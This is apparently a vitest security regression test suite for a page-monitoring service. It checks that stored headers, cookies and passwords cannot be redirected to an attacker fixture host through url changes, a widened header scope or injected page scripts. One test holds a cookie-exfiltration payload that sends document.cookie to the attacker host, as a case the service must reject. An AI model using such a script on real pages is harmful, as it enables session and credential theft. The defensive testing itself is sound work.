// A monitor's stored secrets go only where they were given for (issue #10, security review): whoever
// holds the key sees "••••" and must not be able to send the stored values to a host of their choosing
// by PATCHing the url to another origin or widening headersScope to "all". The "attacker" is a fixture
// server on 127.0.0.2 that records every request, so "no secret" is read from what actually arrived.
// Also here: a header name in another case replaces the stored header instead of joining it.
import type http from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { IssuedKey } from '../../src/stores/api-keys.js';
import type { MonitorView } from '../../src/monitors/view.js';
import {
  addPrivatePage,
  lastSeen,
  MASK,
  monitorOf,
  newSecrets,
  runAndWait,
  secretValues,
  YEARLY,
  type Secrets,
} from '../helpers/monitor-secrets.js';
import { startFixtureServer, type FixtureServer } from '../helpers/fixture-server.js';
import { errorOf, startTestService, type TestService } from '../helpers/service.js';

let target: FixtureServer;
let attacker: FixtureServer;
let svc: TestService;
let key: IssuedKey;

/** Secrets of every kind: a header, a cookie bound to 127.0.0.1, a cookie that follows the page, a password. */
interface AllSecrets extends Secrets {
  pageCookie: string;
}
const newAll = (): AllSecrets => ({ ...newSecrets(), pageCookie: newSecrets().cookie });
const captureWith = (s: AllSecrets) => ({
  viewport: { width: 320, height: 200 },
  headers: { 'X-Api-Token': s.header },
  cookies: [
    { name: 'session', value: s.cookie, domain: '127.0.0.1', path: '/' },
    { name: 'pagecookie', value: s.pageCookie },
  ],
  httpCredentials: { username: 'watcher', password: s.password },
});

async function create(s: AllSecrets, path = '/private'): Promise<MonitorView> {
  return monitorOf(
    await svc.call('POST', '/api/monitors', key.key, {
      url: `${target.url}${path}`,
      schedule: YEARLY,
      capture: captureWith(s),
    }),
    201,
  );
}
const patchOf = (m: MonitorView, body: unknown) => svc.call('PATCH', `/api/monitors/${m.id}`, key.key, body);
const get = async (m: MonitorView) => monitorOf(await svc.call('GET', `/api/monitors/${m.id}`, key.key));

/** The secret values among everything `server` received: header values, cookies, decoded Basic credentials. */
function received(server: FixtureServer, values: string[]): string[] {
  const seen = server.requests
    .flatMap((r) => Object.values(r.headers).flat().map(String))
    .flatMap((v) => {
      const basic = /^Basic (.+)$/.exec(v)?.[1];
      return basic ? [v, Buffer.from(basic, 'base64').toString('utf8')] : [v];
    })
    .join('\n');
  return values.filter((value) => seen.includes(value));
}

beforeAll(async () => {
  [target, attacker] = await Promise.all([startFixtureServer(), startFixtureServer({ host: '127.0.0.2' })]);
  addPrivatePage(target);
  addPrivatePage(attacker);
  // A page of the target that loads an image from the attacker: where headersScope "all" would send headers.
  target.route('/with-third-party', (_req: http.IncomingMessage, res: http.ServerResponse) => {
    res.writeHead(200, { 'content-type': 'text/html' }).end(`<body><img src="${attacker.url}/img/dot.png"></body>`);
  });
  svc = await startTestService({ egress: { allowHosts: ['127.0.0.1', '127.0.0.2', 'localhost'] } });
  key = svc.createKey('moved-secrets');
}, 60_000);
afterAll(async () => {
  await Promise.all([svc?.close(), target?.close(), attacker?.close()]);
});
beforeEach(() => {
  target.requests.length = 0;
  attacker.requests.length = 0;
});

describe('stored secrets and a PATCH of url', () => {
  it('to another origin is 400 naming each secret that would follow the page, and the attacker gets none', async () => {
    const s = newAll();
    const m = await create(s);
    const res = await patchOf(m, { url: `${attacker.url}/private` });
    // Whatever the answer, capture now: under the old code this capture rendered the attacker's page.
    const capture = await runAndWait(svc.call, key, m.id);
    expect(capture.status).toBe('succeeded');
    expect(received(attacker, secretValues(s))).toEqual([]);

    expect(res.status).toBe(400);
    const err = await errorOf(res);
    expect(err.code).toBe('invalid_request');
    // The cookie with its own domain stays bound to 127.0.0.1 wherever the page is: it may be kept.
    expect(err.details!.map((d) => d.path).sort()).toEqual([
      'capture.cookies.1.value',
      'capture.headers.X-Api-Token',
      'capture.httpCredentials.password',
    ]);
    for (const d of err.details!) {
      expect(d.message).toBe(
        `the url moved from ${target.url} to ${attacker.url}, and a stored secret is only sent to the origin it was given for: send the value again, or remove it`,
      );
    }
    expect((await get(m)).url).toBe(`${target.url}/private`); // nothing was written
    expect(lastSeen(target)).toEqual({ header: s.header, cookie: s.cookie, password: s.password });
  });

  it('to another origin is taken with the values sent again: only those reach the new origin, the domain-bound cookie does not', async () => {
    const s = newAll();
    const m = await create(s);
    const fresh = newSecrets();
    const moved = await monitorOf(
      await patchOf(m, {
        url: `${attacker.url}/private`,
        capture: {
          headers: { 'X-Api-Token': fresh.header },
          cookies: [
            { name: 'session', value: MASK, domain: '127.0.0.1', path: '/' },
            { name: 'pagecookie', value: fresh.cookie },
          ],
          httpCredentials: { username: 'watcher', password: fresh.password },
        },
      }),
    );
    expect(moved.capture.cookies!.map((c) => c.value)).toEqual([MASK, MASK]);
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    // Positive control: the new origin was really captured, with the values sent again.
    const req = attacker.requests.filter((r) => r.path === '/private' && r.headers.authorization).at(-1)!;
    expect(req.headers['x-api-token']).toBe(fresh.header);
    expect(req.headers.cookie).toBe(`pagecookie=${fresh.cookie}`);
    expect(lastSeen(attacker).password).toBe(fresh.password);
    expect(received(attacker, secretValues(s))).toEqual([]);
  });

  it('to another origin is taken when the secrets are removed', async () => {
    const s = newAll();
    const m = await create(s);
    const moved = await monitorOf(
      await patchOf(m, {
        url: `${attacker.url}/private`,
        capture: {
          headers: null,
          cookies: [{ name: 'session', value: MASK, domain: '127.0.0.1', path: '/' }],
          httpCredentials: null,
        },
      }),
    );
    expect(moved.capture).toMatchObject({ cookies: [{ name: 'session', value: MASK }] });
    expect(moved.capture.headers).toBeUndefined();
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('failed'); // 401 without credentials
    expect(attacker.requests.map((r) => r.path)).toContain('/private');
    expect(received(attacker, secretValues(s))).toEqual([]);
  });

  it('within the same origin keeps every stored secret', async () => {
    const s = newAll();
    const m = await create(s, '/private?before=1');
    expect((await monitorOf(await patchOf(m, { url: `${target.url}/private` }))).url).toBe(`${target.url}/private`);
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(lastSeen(target)).toEqual({ header: s.header, cookie: s.cookie, password: s.password });
  });
});

describe('stored headers and headersScope', () => {
  it('widened from "origin" to "all" is 400 naming the headers only, and the third party gets none', async () => {
    const s = newAll();
    const m = await create(s, '/with-third-party');
    const res = await patchOf(m, { capture: { headersScope: 'all' } });
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(attacker.requests.map((r) => r.path)).toContain('/img/dot.png'); // the page did load from it
    expect(received(attacker, secretValues(s))).toEqual([]);

    expect(res.status).toBe(400);
    expect((await errorOf(res)).details).toEqual([
      {
        path: 'capture.headers.X-Api-Token',
        message: `headersScope "all" would send this stored header to every host the page loads from, and it was given for ${target.url} only: send the value again, or remove it`,
      },
    ]);
    expect((await get(m)).capture.headersScope).toBe('origin');
  });

  it('widened with the header sent again sends that value to every host; narrowed back keeps it', async () => {
    const s = newAll();
    const m = await create(s, '/with-third-party');
    const fresh = `all-${s.header}`;
    await monitorOf(await patchOf(m, { capture: { headersScope: 'all', headers: { 'X-Api-Token': fresh } } }));
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(attacker.requests.find((r) => r.path === '/img/dot.png')?.headers['x-api-token']).toBe(fresh);

    attacker.requests.length = 0;
    await monitorOf(await patchOf(m, { capture: { headersScope: 'origin' } })); // narrowing needs nothing again
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(target.requests.filter((r) => r.path === '/with-third-party').at(-1)?.headers['x-api-token']).toBe(fresh);
    expect(attacker.requests.map((r) => r.path)).toContain('/img/dot.png');
    expect(received(attacker, [fresh])).toEqual([]);
  });
});

describe('a header name in another case', () => {
  it('replaces the stored header (one header, the new value) and a null in any case removes it', async () => {
    const s = newAll();
    const m = await create(s);
    const renamed = await monitorOf(await patchOf(m, { capture: { headers: { 'x-api-token': 'NEW' } } }));
    expect(renamed.capture.headers).toEqual({ 'x-api-token': MASK });
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(lastSeen(target).header).toBe('NEW'); // not "<old>, NEW": the old value is gone

    // "••••" under yet another spelling stands for the stored value.
    const again = await monitorOf(await patchOf(m, { capture: { headers: { 'X-API-TOKEN': MASK } } }));
    expect(again.capture.headers).toEqual({ 'X-API-TOKEN': MASK });
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(lastSeen(target).header).toBe('NEW');

    const removed = await monitorOf(await patchOf(m, { capture: { headers: { 'x-Api-token': null } } }));
    expect(removed.capture.headers).toEqual({});
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(lastSeen(target).header).toBeUndefined();
  });
});

describe('code added to the page', () => {
  it('a PATCH of capture.js is 400 naming every stored cookie, and a script that would send document.cookie to the attacker never runs', async () => {
    const s = newAll();
    const m = await create(s);
    const res = await patchOf(m, {
      capture: { js: `new Image().src = '${attacker.url}/steal?' + encodeURIComponent(document.cookie)` },
    });
    expect(res.status).toBe(400);
    expect((await errorOf(res)).details).toEqual([
      {
        path: 'capture.cookies.0.value',
        message: expect.stringMatching(
          /^capture\.js changed, and code added to the page can read a stored cookie/,
        ) as unknown,
      },
      { path: 'capture.cookies.1.value', message: expect.stringMatching(/^capture\.js changed/) as unknown },
    ]);
    expect((await get(m)).capture.js).toBeUndefined();
    // The stored monitor still captures; nothing of it reaches the attacker.
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(attacker.requests).toEqual([]);
  });

  it("with the cookies sent again the new code is taken (the values are the caller's own again)", async () => {
    const s = newAll();
    const m = await create(s);
    const again = newAll();
    const res = await patchOf(m, { capture: { js: 'document.title = "x"', cookies: captureWith(again).cookies } });
    expect(res.status, await res.clone().text()).toBe(200);
    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
    expect(lastSeen(target).cookie).toBe(again.cookie);
  });
});
